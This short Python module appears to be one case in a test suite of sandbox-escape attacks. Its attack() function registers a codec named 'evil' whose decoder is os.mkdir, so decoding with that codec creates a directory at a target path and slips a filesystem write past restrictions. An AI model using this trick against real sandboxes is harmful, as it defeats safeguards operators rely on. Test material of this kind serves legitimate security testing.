"""A C function as the decoder of evil's own codec."""
CATEGORY = "callable"
REACH = "write"

import codecs
import os

from . import payload

TARGET = payload.TARGET


def search(name):
    return codecs.CodecInfo(None, os.mkdir) if name == "evil" else None


def attack():
    codecs.register(search)
